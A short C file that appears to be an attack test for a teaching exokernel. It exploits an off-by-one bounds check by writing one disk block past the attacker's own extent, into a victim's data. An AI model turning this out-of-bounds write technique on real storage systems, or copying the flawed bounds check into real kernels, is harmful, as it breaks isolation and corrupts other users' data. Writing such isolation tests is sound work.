// The kernel lets a request go one block past its extent's end: where the victim's begins.
#include "attack/attack.h"

void attack_extent(void) {
    u32 mine = extent_named("mine");
    struct exo_ret page = exo_page_alloc(0, 0);
    disk_block(DISK_WRITE, mine, EXO_EXTS[mine].count, (ppn_t)page.val, 0);
}
